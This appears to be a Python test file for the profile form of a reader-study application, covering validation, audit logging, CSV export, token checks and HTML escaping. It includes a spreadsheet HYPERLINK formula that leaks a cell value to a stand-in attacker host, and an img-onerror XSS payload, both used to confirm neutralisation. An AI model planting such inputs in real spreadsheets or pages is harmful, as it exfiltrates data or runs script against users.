"""The reader's own profile form and the intro's touch wording.

Library: `profiles.profile_form` (asked only when the study asks, not again once filled in,
the coordinator's values pre-filled), `profiles.update_profile(complete=True)` (every field
required, years 0-70, plain one-line text, nothing stored on refusal, completion time
recorded, corrections logged with the previous value), the values exported with each
answer and spreadsheet-safe. Reader page handlers: the form before the first case, Start
refused with a message when fields are missing, not asked again on resume, a forged or
foreign token writes nobody's profile. CLI and admin mirror the study option; migration 8.
"""
from __future__ import annotations

import csv
import json
import uuid

import pytest
from click.testing import CliRunner

from studies import lifecycle, profiles, readers
from studies.storage.schema import SCHEMA_VERSION
from studies.storage.connections import open_db
from studies.errors import ReaderError, StudyError
from studies.export import long_table, read_long_csv, write_export
from studies.session import next_case, submit
from studio.reader import handlers as reader_handlers
from studio.reader import page as reader_page
from studio.reader import texts as reader_texts
from studio.cli import cli
from study_fixtures import database_at_version, study, template  # noqa: F401 (fixtures)

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _asking(db, fields="site", consent=""):
    lifecycle.set_texts(db, "pilot", profile_fields=fields, ask_profile=True, consent=consent)


def _stored(db, reader_id):
    with open_db(db) as conn:
        profile, done = conn.execute("SELECT profile, profile_completed_at FROM readers "
                                     "WHERE id = ?", [reader_id]).fetchone()
    return json.loads(profile), done


def _answer(db, reader_id):
    view = next_case(db, reader_id)
    q = view.pending[0]
    submit(db, reader_id, view.assignment_id, q["task"], q["scale"][0]["value"], 900,
           str(uuid.uuid4()))


GOOD = {"specialty": "radiology", "years_experience": "12", "site": "Leiden"}


# ------------------------------------------------------------------------------ library
def test_form_only_when_the_study_asks_with_the_coordinators_values_prefilled(study):
    token = readers.invite(study, "pilot", "dr-a", profile={"specialty": "radiology"})
    ref = readers.reader_for_token(study, token)
    assert profiles.profile_form(study, ref.reader_id) is None  # the default: not asked
    assert not lifecycle.study_texts(study, "pilot").ask_profile
    _asking(study, "site,home_country")
    assert lifecycle.study_texts(study, "pilot").ask_profile
    form = profiles.profile_form(study, ref.reader_id)
    assert form.fields == ("specialty", "years_experience", "site", "home_country")
    assert form.labels == ("Specialty", "Years of experience", "Site", "Home country")
    assert form.values == {"specialty": "radiology"}
    lifecycle.set_texts(study, "pilot", ask_profile=False)
    assert profiles.profile_form(study, ref.reader_id) is None


@pytest.mark.parametrize("field, value, message", [
    ("years_experience", "-1", "not a whole number 0-70"),
    ("years_experience", "71", "not a whole number 0-70"),
    ("years_experience", "12.5", "not a whole number 0-70"),
    ("years_experience", "twelve", "not a whole number 0-70"),
    ("specialty", "x" * 201, "at most 200"),
    ("specialty", "radiology\nneuro", "one line"),
    ("site", "Leiden\tNL", "one line"),
    ("site", "Lei\u202eden", "plain text"),        # right-to-left override
    ("site", "Leiden\u200b", "plain text"),        # zero-width space
    ("specialty", "", "Please fill in: Specialty"),
    ("site", "   ", "Please fill in: Site"),
])
def test_bad_values_are_refused_and_nothing_is_stored(study, field, value, message):
    _asking(study)
    ref = readers.reader_for_token(study, readers.invite(study, "pilot", "dr-a",
                                                         profile={"specialty": "neuro"}))
    with pytest.raises(ReaderError, match=message):
        profiles.update_profile(study, ref.reader_id, GOOD | {field: value}, complete=True)
    assert _stored(study, ref.reader_id) == ({"specialty": "neuro"}, None)
    assert profiles.profile_form(study, ref.reader_id) is not None  # still asked


@pytest.mark.parametrize("years, stored", [("0", 0), ("70", 70), (" 7 ", 7), ("7.0", 7)])
def test_years_bounds_are_inclusive_whole_numbers(study, years, stored):
    _asking(study)
    ref = readers.reader_for_token(study, readers.invite(study, "pilot", "dr-a"))
    out = profiles.update_profile(study, ref.reader_id, GOOD | {"years_experience": years},
                                 complete=True)
    assert out["years_experience"] == stored


def test_completion_is_recorded_once_and_a_correction_keeps_the_invitation_value(study):
    _asking(study)
    ref = readers.reader_for_token(study, readers.invite(
        study, "pilot", "dr-a", profile={"specialty": "radiology", "site": "Bergen"}))
    stored = profiles.update_profile(study, ref.reader_id, GOOD, complete=True, actor="reader")
    assert stored == {"specialty": "radiology", "years_experience": 12, "site": "Leiden"}
    profile, done = _stored(study, ref.reader_id)
    assert profile == stored and done
    assert readers.reader_info(study, ref.reader_id).profile_completed_at == done
    assert profiles.profile_form(study, ref.reader_id) is None  # not asked again
    with open_db(study) as conn:
        actor, detail = conn.execute("SELECT actor, detail FROM audit_log WHERE action = "
                                     "'update_profile'").fetchone()
    assert actor == "reader"
    assert json.loads(detail)["changed"] == {"site": ["Bergen", "Leiden"],
                                             "years_experience": [None, 12]}
    profiles.update_profile(study, ref.reader_id, GOOD | {"site": "Oslo"}, complete=True)
    assert _stored(study, ref.reader_id)[1] == done  # the first completion time stays


def test_profile_values_are_exported_with_each_answer_and_spreadsheet_safe(study, tmp_path):
    _asking(study)
    ref = readers.reader_for_token(study, readers.invite(study, "pilot", "dr-a"))
    profiles.update_profile(study, ref.reader_id,
                           {"specialty": "@radiology", "years_experience": "3", "site": LINK},
                           complete=True)
    for _ in range(3):
        _answer(study, ref.reader_id)
    df = long_table(study, "pilot")
    assert len(df) == 3 and list(df.columns[-1:]) == ["site"]
    assert set(df.site) == {LINK} and set(df.specialty) == {"@radiology"}
    assert set(df.years_experience) == {3}
    out = tmp_path / "long.csv"
    write_export(study, "pilot", "long", out)
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["site"] for r in rows} == {"'" + LINK}  # text, not a live formula
    assert {r["specialty"] for r in rows} == {"'@radiology"}
    assert {r["years_experience"] for r in rows} == {"3"}
    back = read_long_csv(out)
    assert set(back.site) == {LINK} and set(back.specialty) == {"@radiology"}


# ------------------------------------------------------------------- reader page handlers
def test_form_before_the_first_case_start_refuses_missing_fields_records_nothing(study):
    _asking(study, consent="I agree.")
    token = readers.invite(study, "pilot", "dr-a", profile={"specialty": "neuro"})
    ref = readers.reader_for_token(study, token)
    screen = reader_handlers.open_page(study, token)
    assert screen.kind == "intro" and screen.profile.values == {"specialty": "neuro"}
    assert "Consent" in screen.intro
    html_form = reader_page.profile_form_html(screen.profile)
    assert 'data-field="years_experience"' in html_form and 'value="neuro"' in html_form
    refused = reader_handlers.start(study, token, json.dumps({"specialty": "radiology",
                                                          "years_experience": "12"}))
    assert refused.kind == "intro" and refused.state is None and refused.image_url is None
    assert refused.message == "Please fill in: Site."
    assert refused.profile.values == {"specialty": "radiology", "years_experience": "12"}
    assert 'value="radiology"' in reader_page.profile_form_html(refused.profile)
    bad_years = reader_handlers.start(study, token, json.dumps(GOOD | {"years_experience": "lots"}))
    assert bad_years.kind == "intro"
    assert bad_years.message == "Years of experience 'lots' is not a whole number 0-70."
    for junk in (None, "", "not json", "[1, 2]", '{"specialty": ["x"]}'):
        assert reader_handlers.start(study, token, junk).kind == "intro"
    # nothing recorded: no profile change, no consent, no answer
    assert _stored(study, ref.reader_id) == ({"specialty": "neuro"}, None)
    assert readers.reader_info(study, ref.reader_id).consented_at is None
    assert next_case(study, ref.reader_id).position == 1
    # every field filled in: the first case, and profile and consent recorded
    started = reader_handlers.start(study, token, json.dumps(GOOD))
    assert started.kind == "case" and started.image_url
    assert _stored(study, ref.reader_id)[0] == {"specialty": "radiology",
                                                "years_experience": 12, "site": "Leiden"}
    assert readers.reader_info(study, ref.reader_id).consented_at is not None


def test_not_asked_again_on_resume_and_later_values_are_ignored(study):
    _asking(study)
    token = readers.invite(study, "pilot", "dr-a")
    ref = readers.reader_for_token(study, token)
    assert reader_handlers.start(study, token, json.dumps(GOOD)).kind == "case"
    # reload before answering: the intro again (first case), but no form
    again = reader_handlers.open_page(study, token)
    assert again.kind == "intro" and again.profile is None
    assert reader_handlers.start(study, token, json.dumps(GOOD | {"site": "Oslo"})).kind == "case"
    assert _stored(study, ref.reader_id)[0]["site"] == "Leiden"  # a later Start writes nothing
    _answer(study, ref.reader_id)
    resumed = reader_handlers.open_page(study, token)
    assert resumed.kind == "case" and resumed.profile is None
    # Continue/Try again (no form values) simply serve the case
    assert reader_handlers.start(study, token).kind == "case"


def test_asked_on_resume_when_the_study_starts_asking_mid_session(study):
    token = readers.invite(study, "pilot", "dr-a")
    ref = readers.reader_for_token(study, token)
    _answer(study, ref.reader_id)
    assert reader_handlers.open_page(study, token).kind == "case"
    _asking(study)
    screen = reader_handlers.open_page(study, token)
    assert screen.kind == "intro" and screen.profile is not None
    assert reader_handlers.continue_after_feedback(study, token).kind == "intro"  # no bypass
    assert reader_handlers.start(study, token, json.dumps(GOOD)).kind == "case"


def test_a_forged_foreign_or_deactivated_token_writes_no_profile(study):
    _asking(study)
    token_a = readers.invite(study, "pilot", "dr-a")
    token_b = readers.invite(study, "pilot", "dr-b")
    a = readers.reader_for_token(study, token_a)
    b = readers.reader_for_token(study, token_b)
    # the browser's JSON cannot name a reader: extra keys are dropped
    forged_json = json.dumps(GOOD | {"reader_id": a.reader_id, "reader": "dr-a"})
    for bad in ("forged-token", token_a + "x", "", None):
        assert reader_handlers.start(study, bad, forged_json).kind == "login"
    assert _stored(study, a.reader_id) == ({}, None)
    # dr-b's link fills in dr-b's profile only
    assert reader_handlers.start(study, token_b, forged_json).kind == "case"
    assert _stored(study, b.reader_id)[0] == {"specialty": "radiology", "years_experience": 12,
                                              "site": "Leiden"}
    assert _stored(study, a.reader_id) == ({}, None)
    readers.set_reader_active(study, "pilot", "dr-a", False)
    assert reader_handlers.start(study, token_a, json.dumps(GOOD)).kind == "login"
    readers.set_reader_active(study, "pilot", "dr-a", True)
    lifecycle.set_status(study, "pilot", "closed")
    closed = reader_handlers.storage_safe(reader_handlers.start)(study, token_a, json.dumps(GOOD))
    assert closed.kind == "finished" and "closed" in closed.message
    assert _stored(study, a.reader_id) == ({}, None)


def test_form_html_escapes_values_and_labels(study):
    form = profiles.ProfileForm(fields=("specialty", "site"), labels=("Specialty", "<b>Site</b>"),
                               values={"specialty": '"><img src=x onerror=alert(1)>'})
    out = reader_page.profile_form_html(form, message="<script>x</script>")
    assert "<img" not in out and "<script>" not in out and "<b>" not in out
    assert 'value="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"' in out


def test_intro_text_has_no_key_wording_and_the_hints_are_separate(study):
    token = readers.invite(study, "pilot", "dr-a")
    intro = reader_handlers.open_page(study, token).intro
    for word in ("Enter", "Keyboard", "keys", "digit"):
        assert word not in intro, word
    assert "Enter" in reader_texts.INTRO_KEYS and "digits" in reader_texts.INTRO_KEYS
    assert "tap" in reader_texts.INTRO_TOUCH and "Enter" not in reader_texts.INTRO_TOUCH
    css = reader_page.READER_CSS
    coarse = css[css.index("@media (pointer: coarse)"):]
    assert ".intro-keys { display: none; }" in coarse[:coarse.index("}\n}")]
    assert ".intro-touch { display: none; }" in css[:css.index("@media (pointer: coarse)")]


# ------------------------------------------------------------------- CLI, admin, migration
def test_cli_configure_ask_profile_and_readers_list(study):
    run = CliRunner().invoke
    res = run(cli, ["study", "configure", "--db", str(study), "--study", "pilot",
                    "--profile-fields", "site", "--ask-profile"])
    assert res.exit_code == 0, res.output
    assert "site (readers fill them in)" in res.output
    assert lifecycle.study_texts(study, "pilot").ask_profile
    token = readers.invite(study, "pilot", "dr-a")
    reader_handlers.start(study, token, json.dumps(GOOD))
    out = run(cli, ["study", "readers", "--db", str(study), "--study", "pilot"]).output
    assert "profile form" in out and "site=Leiden" in out
    assert readers.reader_table(study, "pilot")[0].profile_completed_at[:16].replace(
        "T", " ") in out
    res = run(cli, ["study", "configure", "--db", str(study), "--study", "pilot",
                    "--no-ask-profile"])
    assert res.exit_code == 0 and "not asked of readers" in res.output
    assert not lifecycle.study_texts(study, "pilot").ask_profile
    assert lifecycle.study_texts(study, "pilot").profile_fields == ["site"]  # left as it was


def test_admin_settings_mirror_the_option(study):
    from studio.admin import readers_tab, settings_tab

    lifecycle.set_texts(study, "pilot", ask_profile=True)
    assert settings_tab.study_settings(study, "pilot")[4] is True
    token = readers.invite(study, "pilot", "dr-a")
    assert readers_tab.readers_table(study, "pilot").loc[0, "profile form"] == "no"
    assert reader_handlers.start(study, token, json.dumps(GOOD)).kind == "case"
    done = readers_tab.readers_table(study, "pilot").loc[0, "profile form"]
    assert done != "no" and done == readers.reader_table(study, "pilot")[0] \
        .profile_completed_at[:19].replace("T", " ")
    with pytest.raises(StudyError, match="true or false"):
        lifecycle.set_texts(study, "pilot", ask_profile="yes")


def test_migration_8_upgrades_a_schema_5_database(tmp_path, monkeypatch):
    path = tmp_path / "old.db"
    with database_at_version(path, 5, monkeypatch) as db:
        sid = db["studies"].insert({"name": "s", "created_at": "x", "size": 64,
                                    "tasks": '["turing"]', "options": "{}", "seed": 0,
                                    "profile_fields": "[]"}).last_pk
        db["readers"].insert({"study_id": sid, "name": "r", "token_hash": "h", "ordinal": 0,
                              "created_at": "x", "profile": '{"specialty": "x"}'})
    db = open_db(path)
    try:
        assert db.execute("SELECT ask_profile FROM studies").fetchone() == (0,)
        assert db.execute("SELECT profile, profile_completed_at FROM readers").fetchone() == (
            '{"specialty": "x"}', None)
        assert db.execute("SELECT max(version) FROM schema_version").fetchone()[0] == SCHEMA_VERSION
    finally:
        db.close()
